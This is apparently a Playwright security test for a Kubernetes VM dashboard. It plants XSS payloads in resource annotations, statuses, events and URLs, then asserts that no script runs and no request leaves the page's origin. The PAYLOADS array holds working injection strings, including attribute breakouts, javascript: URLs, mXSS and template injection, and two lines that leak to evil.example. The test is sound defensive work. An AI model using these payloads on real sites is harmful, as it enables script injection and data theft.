import { mkdtempSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import type { Page } from '@playwright/test'
import { TOKEN } from '../../demo/api/testing/test-server.ts'
import { kubeconfigText } from '../../demo/kubeconfig.ts'
import * as keys from '../../lib/cocoon/keys.ts'
import type { KubeObject } from '../../lib/cocoon/kube-json.ts'
import { family, startActionBench } from '../promises/bench-actions.ts'
import { counted, FULL, figure } from '../promises/figure.ts'
import { expect, test } from './support/dashboards.ts'
import { fleetOf, openFleet, panelOf, rowOf } from './support/fleet.ts'

const RUN = 'window.canary(1)'

/** Each would run where text is taken for a document, an attribute, an address, a style or a script. */
const PAYLOADS = [
  `<img src=x onerror="${RUN}">`,
  `<svg/onload=${RUN}>`,
  `</script><script>${RUN}</script>`,
  `"><script>${RUN}</script>`,
  `' onmouseover='${RUN}' x='`,
  `" autofocus onfocus="${RUN}" tabindex=1 x="`,
  `javascript:${RUN}`,
  `data:text/html,<script>parent.${RUN}</script>`,
  `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`,
  `</style><style>*{background:url(https://evil.example/leak)}</style>`,
  `</title></textarea></noscript><details open ontoggle=${RUN}>x</details>`,
  '<a href="javascript:' + RUN + '">click</a><form action="https://evil.example"><button>x</button></form>',
  `\${${RUN}}{{constructor.constructor('${RUN}')()}}`,
  `<math><mtext></mtext><mglyph><svg><mtext><textarea><path id="</textarea><img onerror=${RUN} src=x>">`,
]

const setName = (index: number) => `canary-${index}`

/** A set and its VM, everything about which says the payload where an API server lets anybody write anything. */
function hostile(payload: string, index: number): (KubeObject & Record<string, unknown>)[] {
  const { set, pod } = family(setName(index))
  const annotations = Object.fromEntries(
    [
      keys.ANNOTATION_IMAGE,
      keys.ANNOTATION_VM_NAME,
      keys.ANNOTATION_VM_ID,
      keys.ANNOTATION_OS,
      keys.ANNOTATION_BACKEND,
      keys.ANNOTATION_FORK_FROM,
      keys.ANNOTATION_NETWORK,
      keys.ANNOTATION_LIFECYCLE_STATE_MESSAGE,
      'example.org/note',
    ].map((key) => [key, payload]),
  )
  const condition = { type: payload, status: payload, reason: payload, message: payload }
  const uid = pod.metadata?.uid ?? ''
  const event = (of: string, kind: string, name: string, suffix: string) => ({
    apiVersion: 'v1',
    kind: 'Event',
    metadata: { name: `${name}.${suffix}`, namespace: 'team' },
    involvedObject: { kind, namespace: 'team', name, uid: of },
    reason: payload,
    message: payload,
    type: payload,
    action: payload,
    source: { component: payload, host: payload },
    reportingComponent: payload,
    firstTimestamp: '2026-01-01T00:00:00Z',
    lastTimestamp: '2026-01-01T00:00:00Z',
    count: 1,
  })
  return [
    {
      ...set,
      metadata: { ...set.metadata, labels: { note: 'canary' }, annotations: { 'example.org/note': payload } },
      spec: { ...set.spec, agent: { ...set.spec?.agent, image: payload } },
      status: { ...set.status, conditions: [condition] },
    },
    {
      ...pod,
      metadata: { ...pod.metadata, annotations: { ...pod.metadata?.annotations, ...annotations } },
      status: { ...pod.status, message: payload, reason: payload, conditions: [condition] },
    },
    event(uid, 'Pod', `${setName(index)}-0`, 'a1'),
    event(set.metadata?.uid ?? '', 'CocoonSet', setName(index), 'b2'),
  ]
}

declare global {
  interface Window {
    canary(ran: number): void
  }
}

/** Looks at everything that the page shows of whatever is open: its tabs, and what comes under the pointer. */
async function lookThrough(page: Page): Promise<number> {
  let looked = 1
  for (const tab of await panelOf(page).getByRole('tab').all()) {
    await tab.click()
    looked += 1
  }
  for (const more of await panelOf(page).locator('summary, button[aria-expanded=false]').all()) {
    await more.click()
    looked += 1
  }
  return looked
}

test('E8: what objects and events say never runs, loads or leaves', async ({
  page,
  complaints,
  ownDashboard,
}) => {
  test.setTimeout(240_000)
  // No VM of this cluster has a screen, a shell or a log; nothing else may be complained of, violations least.
  complaints.expect(/status of (403|404|409|422|502|503).*\/api\/(vms|sets)\//)
  const startedAt = performance.now()
  const signs: string[] = []
  await page.exposeBinding('canary', () => void signs.push('a script ran'))
  page.on('dialog', (dialog) => void signs.push(dialog.type()))
  page.on('popup', (popup) => void signs.push(`a window of ${popup.url()}`))
  const asked: string[] = []
  page.on('request', (request) => asked.push(request.url()))

  const folder = mkdtempSync(join(tmpdir(), 'cocoon-canaries-'))
  const cluster = await startActionBench(PAYLOADS.flatMap(hostile))
  const KUBECONFIG = join(folder, 'kubeconfig')
  writeFileSync(KUBECONFIG, kubeconfigText({ server: cluster.server.url, token: TOKEN }), { mode: 0o600 })
  const { url } = await ownDashboard({ CLUSTER: 'kube', KUBECONFIG })
  let looked = 0
  let opened = 0
  let shown = 0
  const count = async (what: string) => {
    looked += 1
    if ((await page.locator('body').innerText()).includes(what.slice(0, 12))) shown += 1
  }
  try {
    await page.setViewportSize({ width: 1440, height: 2400 })
    for (const [index, payload] of PAYLOADS.entries()) {
      if (!FULL && index % 3 > 0) continue
      opened += 1
      const vm = `${setName(index)}-0`
      await openFleet(
        page,
        `${url}/?q=${setName(index)}&cols=name,phase,node,reach,image,os,backend,fork,vmName,namespace`,
      )
      await rowOf(page, vm).hover()
      await rowOf(page, vm).click()
      await expect(panelOf(page).getByRole('heading', { level: 2 })).toContainText(vm)
      looked += await lookThrough(page)
      await count(payload)
      for (const view of FULL ? ['console', 'terminal', 'logs'] : []) {
        await page.goto(`${url}/vms/team/${vm}/${view}`)
        await expect(page.getByText(vm).first()).toBeVisible()
        await count(payload)
      }
      await page.goto(`${url}/sets/team/${setName(index)}/edit`)
      await expect(page.getByText(setName(index)).first()).toBeVisible()
      await expect(page.getByText(payload.slice(0, 12)).first()).toBeAttached()
      await count(payload)
    }
    for (const view of [
      '/?group=image',
      '/?group=os',
      '/?group=phase',
      '/screens',
      '/sets/new?from=team/canary-0',
    ]) {
      await page.goto(url + view)
      await expect(page.getByRole('navigation').first()).toBeVisible()
      looked += 1
    }
    // A name in the address is nobody's word but that of whoever made the link.
    for (const payload of PAYLOADS.slice(0, counted(PAYLOADS.length))) {
      const name = encodeURIComponent(payload)
      for (const path of [
        `/?q=${name}&group=${name}`,
        `/vms/team/${name}/console`,
        `/sets/new?namespace=${name}`,
      ]) {
        await page.goto(url + path)
        await expect(page.getByRole('navigation').first()).toBeVisible()
        looked += 1
      }
    }
    await openFleet(page, url)
    await expect(fleetOf(page).locator('img, script, iframe, a[href^=javascript], style, form')).toHaveCount(
      0,
    )
  } finally {
    await page.close()
    await cluster.close()
    rmSync(folder, { recursive: true })
  }
  const away = asked.filter((each) => !each.startsWith(url) && !/^(data|blob):/.test(each))
  figure(
    'E8',
    startedAt,
    `${PAYLOADS.length} payloads in every text of sets, VMs and events`,
    `${looked} views, ${shown} of them with a payload in sight`,
    `${signs.length} executions, ${away.length} requests elsewhere`,
  )
  expect(signs).toEqual([])
  expect(away).toEqual([])
  expect(shown).toBeGreaterThanOrEqual(opened)
})
